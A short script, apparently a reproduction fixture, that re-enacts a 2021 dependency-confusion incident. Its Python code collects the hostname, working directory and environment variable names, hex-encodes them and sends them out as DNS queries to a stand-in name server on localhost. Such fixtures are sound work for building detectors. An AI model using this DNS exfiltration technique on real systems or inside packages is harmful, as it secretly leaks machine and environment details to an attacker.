# incident: packages of dependency confusion (2021): host, user and directory leave in many short questions to a name server
# finding: dns-exfiltration
# needs: python3
python3 - <<'PY'
import os, socket
data = (socket.gethostname() + "|" + os.getcwd() + "|" + " ".join(sorted(os.environ))).encode().hex()
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for n, at in enumerate(range(0, min(len(data), 900), 18)):
    name = b"".join(bytes([len(p)]) + p for p in (data[at:at + 18].encode(), b"%d" % n, b"x7f", b"example")) + b"\0"
    try:
        s.sendto(b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00" + name + b"\x00\x01\x00\x01", ("127.0.0.1", 53))
    except OSError:
        pass
PY
